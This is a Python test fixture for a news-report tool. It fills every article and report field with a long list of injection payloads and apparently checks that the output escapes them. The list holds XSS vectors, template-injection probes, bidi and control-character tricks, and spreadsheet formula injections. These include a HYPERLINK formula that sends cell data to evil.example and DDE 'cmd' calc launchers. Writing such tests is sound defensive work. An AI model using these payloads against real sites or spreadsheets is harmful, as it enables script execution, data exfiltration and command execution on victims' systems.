"""What strangers write into their pages in order to act in ours: HTML, attributes, addresses, SVG, formulas, bidi, Markdown, Slack."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

from rasid.model import Article, Finding, Origin, Span, Words
from rasid.model.problems import Item
from rasid.model.values import Quote
from rasid.report import Edit, ReportData, WaivedItem
from rasid.wording.format import isolate
from tests.report.samples import HOME, NOW, finding, full, grouped

ACT = "window.__hit=1"

PAYLOADS: tuple[str, ...] = (
    f"<script>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{ACT}//",
    f"<img src=x onerror={ACT}>",
    f"<img src=x onerror='{ACT}'//",
    f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{ACT}"><text>انقر</text></a></svg>',
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={ACT}>",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f"<iframe src=javascript:{ACT}>",
    f"<body onload={ACT}>",
    f"<details open ontoggle={ACT}>",
    f"<video><source onerror={ACT}>",
    f"<audio src=x onerror={ACT}>",
    f"<input autofocus onfocus={ACT}>",
    f"<select autofocus onfocus={ACT}>",
    f"<marquee onstart={ACT}>",
    f"<object data=javascript:{ACT}>",
    f"<embed src=javascript:{ACT}>",
    f"<base href=javascript:{ACT}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{ACT}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    f"</style><script>{ACT}</script>",
    f"</title><script>{ACT}</script>",
    f"</textarea><script>{ACT}</script>",
    f"--><script>{ACT}</script>",
    f"<!--<img src='--><img src=x onerror={ACT}//'>",
    f"]]><script>{ACT}</script>",
    f'" onmouseover="{ACT}" x="',
    f"' onfocus='{ACT}' autofocus='",
    f"` onclick=`{ACT}`",
    f'"><script>{ACT}</script>',
    f"'><svg/onload={ACT}>",
    '" style="position:fixed;inset:0" x="',
    f"javascript:{ACT}",
    f"JaVaScRiPt:{ACT}",
    f"java\tscript:{ACT}",
    f"\x01javascript:{ACT}",
    f"&#106;avascript:{ACT}",
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"data:text/html,<script>{ACT}</script>",
    f"vbscript:{ACT}",
    f"{{{{constructor.constructor('{ACT}')()}}}}",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    '=HYPERLINK("http://evil.example/?"&A1,"انقر")',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\u202eنص مقلوب\u202c",
    "\u202dLRO\u2066LRI\u2067RLI",
    "\u2069\u2069\u2069إغلاق زائد",
    "\u200b\u200c\u200d\ufeff\u00ad",
    "\x00\x1b[31mأحمر\x1b[0m\x07",
    "\ud800 نصف زوج",
    f"[انقر](javascript:{ACT})",
    f'![x](x"onerror="{ACT})',
    "<https://evil.example|انقر> <!channel> @everyone",
    "*غليظ* _مائل_ `رمز` ~مشطوب~",
    "ﷺ" * 400,
    "a" * 5000,
)

BENIGN = "كلام عادي لا يريد شيئًا"


def article(payload: str, number: int = 0) -> Article:
    """Every field a page can fill, filled with ``payload``; its address stays one."""
    return Article(
        url=f"{HOME}/p/{number}",
        source_id="nahr",
        section="local",
        kicker=payload,
        headline=payload,
        standfirst=payload,
        body=(payload, f"قبل {payload} بعد"),
        captions=(payload,),
        authors=(payload,),
        agency=payload,
        dateline=payload,
        section_name=payload,
        tags=(payload,),
        image=payload,
        related=(payload,),
        published_raw=payload,
        structured_data={"headline": payload, "author": {"name": payload, "url": payload}, "@type": payload},
    )


def judged(payload: str, url: str) -> Finding:
    """A finding that quotes ``payload`` wherever findings quote."""
    quoted = Words(f"عنوان: {isolate(payload)}", f"title: {isolate(payload)}")
    return finding(
        "published_disagrees",
        url,
        title=quoted,
        advice=quoted,
        suggestion=quoted,
        observed_value=Quote(payload),
        expected_value=Quote(payload),
        origin=Origin.META,
        detail=payload,
        spans=(Span("headline", 0, len(payload), payload, payload[:40], payload[:40]), Span(payload, 0, 1, payload)),
    )


def report_on(payload: str) -> ReportData:
    """The sample morning with ``payload`` in every place a stranger's words can reach."""
    data, url = full(), f"{HOME}/p/1"
    return replace(
        data,
        trends=(),
        rules=(),
        titles={},
        problems=grouped(
            [
                Item(1, "nahr", judged(payload, url), NOW, "open", url, payload, payload, NOW, NOW, payload),
                Item(
                    2, "nahr", replace(judged(payload, url), spans=(), rule="other"), NOW, "open", url, payload, payload, NOW, NOW, payload
                ),
                Item(3, "nahr", replace(judged(payload, url), article_url=None, rule="section"), NOW, "open"),
            ]
        ),
        edits=(Edit(url, payload, "headline", f"قديم {payload}", f"جديد {payload}", NOW, NOW),),
        waived=(
            WaivedItem("headline_length", Words(payload, payload), "article", payload, payload, payload, NOW, NOW + timedelta(days=9), url),
        ),
        window_articles=(article(payload),),
    )
